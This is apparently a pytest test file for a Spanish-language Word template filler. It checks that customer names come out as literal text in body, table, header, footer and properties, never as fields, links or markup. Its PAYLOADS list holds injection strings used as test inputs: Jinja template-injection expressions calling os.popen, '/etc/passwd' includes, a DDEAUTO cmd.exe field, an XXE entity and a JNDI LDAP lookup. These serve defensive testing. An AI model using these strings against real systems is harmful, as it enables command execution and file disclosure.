"""What is written comes out as it was written, wherever it stands, and is never more than text."""

from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.write.word.small import (
    W,
    agreement,
    fill_here,
    p,
    package,
    parts_of,
    required,
    rows,
    texts,
)

from cartera_xl.package.limits import Refused
from cartera_xl.specs.documents import find_document
from cartera_xl.validate.content import check_content

ACCENTS = "".join(chr(n) for n in range(0xA1, 0x180)) + "ẞ€–—«»‘’“”…№中文😀"
NAMES = ["Pérez & Hijos <Norte>", "Ñandú, Güiña & Cía. S. en C.", 'D’Ávila "El Sol"', ACCENTS,
         "  dos espacios  ", "a\u00a0b", "]]>", "&amp;", "<w:br/>", "{", "}", "{ {a} }", "{_{ a }_}"]  # fmt: skip
PAYLOADS = [
    "{{ 7*7 }}", "{% for x in range(9**9) %}{% endfor %}", "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__ }}",
    "{{ self._TemplateReference__context }}", "{# oculto #}", "{%tr for x in cuotas %}", "{{r x }}",
    "{% include '/etc/passwd' %}", "{% import 'os' as o %}", "{%- raw -%}", "{{ deuda|safe }}",
    '=HYPERLINK("http://x.example","ver")', "=1+1", "@SUM(A1)", "+57 300 1234567", "-1",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", 'INCLUDETEXT "file:///etc/passwd"',
    "</w:t></w:r></w:p><w:p><w:r><w:t>otro", "<w:instrText>PAGE</w:instrText>",
    '<w:hyperlink r:id="h"><w:r/></w:hyperlink>', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>",
    "&e;", "<![CDATA[x]]>", "javascript:alert(1)", "http://x.example/a?b=c", "mailto:a@b.co",
    "%PDF-1.4", "$(id)", "`id`", "${jndi:ldap://x.example/a}", "{{ '%c'|format(1) }}",
]  # fmt: skip


@pytest.fixture(scope="module")
def everywhere(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A template that shows the client in its body, a table, its header, footer and properties."""
    path = tmp_path_factory.mktemp("plantilla") / "t.docx"
    field = "{{ cliente_nombre }}"
    body = p(f"[{field}]") + rows(field) + required()
    path.write_bytes(package(body, header=p(field), footer=p(field), title=field))
    return path


def shown(parts: dict[str, bytes]) -> dict[str, str]:
    """Return what stands in each of the five places, the brackets of the first taken off."""
    body = texts(parts["word/document.xml"])
    title = ElementTree.fromstring(parts["docProps/core.xml"])[0].text
    return {
        "body": body[0][1:-1], "table": body[1], "header": texts(parts["word/header1.xml"])[0],
        "footer": texts(parts["word/footer1.xml"])[0], "properties": title or "",
    }  # fmt: skip


@pytest.mark.parametrize("name", [*NAMES, *PAYLOADS])
def test_a_name_is_exact_in_body_table_header_footer_and_properties(
    name: str, everywhere: Path
) -> None:
    parts = fill_here(everywhere, agreement(cliente_nombre=name))
    assert set(shown(parts).values()) == {name}


@given(name=st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]), min_size=1))
@settings(max_examples=50)
def test_any_text_is_exact(name: str, everywhere: Path) -> None:
    content: Any = agreement(cliente_nombre=name)
    if check_content(find_document("acuerdo_pago"), content, "t.docx"):
        return  # blank, or one of the two characters that XML lacks: told apart below
    assert set(shown(fill_here(everywhere, content)).values()) == {name}


@pytest.mark.parametrize("name", PAYLOADS)
def test_no_text_becomes_a_field_a_link_or_another_paragraph(name: str, everywhere: Path) -> None:
    plain = fill_here(everywhere, agreement(cliente_nombre="Tienda"))
    parts = fill_here(everywhere, agreement(cliente_nombre=name))
    assert parts.keys() == plain.keys()
    for part, content in parts.items():
        tags = [node.tag for node in ElementTree.fromstring(content).iter()]
        assert tags == [node.tag for node in ElementTree.fromstring(plain[part]).iter()], part


def test_a_line_break_and_a_tab_are_those_of_word(everywhere: Path) -> None:
    parts = fill_here(everywhere, agreement(cliente_nombre="uno\ndos\ttres\r\ncuatro"))
    run = next(ElementTree.fromstring(parts["word/header1.xml"]).iter(f"{{{W}}}r"))
    found = [(node.tag.rpartition("}")[2], node.text) for node in run]
    assert found == [("t", "uno"), ("br", None), ("t", "dos"), ("tab", None), ("t", "tres"),
                     ("br", None), ("t", "cuatro")]  # fmt: skip


@pytest.mark.parametrize("code", [0, 7, 8, 0xB, 0xC, 0x1B, 0x1F, 0xFFFE, 0xFFFF, 0xD800])
def test_a_character_that_word_cannot_hold_is_refused_and_placed(code: int) -> None:
    content: Any = agreement(cliente_nombre=f"Tienda La 14{chr(code)} SAS")
    (problem,) = check_content(find_document("acuerdo_pago"), content, "t.docx")
    assert (problem.codigo, problem.campo) == ("CX-PLA-204", "cliente_nombre")
    assert problem.mensaje == (
        f"«cliente_nombre» trae un carácter invisible que Word no admite (U+{code:04X}), después de "
        "«Tienda La 14»."
    )
    problem.mensaje.encode()


def test_filters_conditions_and_loops_place_what_they_should(tmp_path: Path) -> None:
    path = tmp_path / "t.docx"
    body = p("{{ cliente_nombre|upper }}{% if gracia %} con {% else %} sin {% endif %}gracia")
    body += rows("{%tr for c in cuotas %}",
                 "{{ loop.index }}/{{ cuotas|length }} {{ c.vence|truncate(5, True, '…') }}"
                 "{{ ',' if not loop.last else '.' }}", "{%tr endfor %}")  # fmt: skip
    path.write_bytes(package(body + required()))
    found = texts(fill_here(path, agreement(gracia=""))["word/document.xml"])
    assert found[:5] == ["PÉREZ & HIJOS <NORTE> SAS sin gracia", "1/4 15 d…,", "2/4 15 d…,",
                         "3/4 15 d…,", "4/4 15 d…."]  # fmt: skip


def test_what_does_not_change_is_byte_for_byte_the_template_s(tmp_path: Path) -> None:
    path = tmp_path / "t.docx"
    more = {"word/media/a.png": bytes(range(256)), "word/theme.xml": "<a/>"}
    path.write_bytes(package(required(), more=more))
    before, after = parts_of(path.read_bytes()), fill_here(path, agreement())
    assert {n for n in before if before[n] != after[n]} == {"word/document.xml"}


def test_a_loop_that_breaks_the_document_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "t.docx"
    body = p("{% for c in cuotas %}{{ c.numero }}") + rows("{% endfor %}{{ deuda }}")
    path.write_bytes(package(body + required()))
    with pytest.raises(Refused) as refused:
        fill_here(path, agreement())
    assert (refused.value.razon, refused.value.hoja) == ("mal_armado", "Cuerpo")
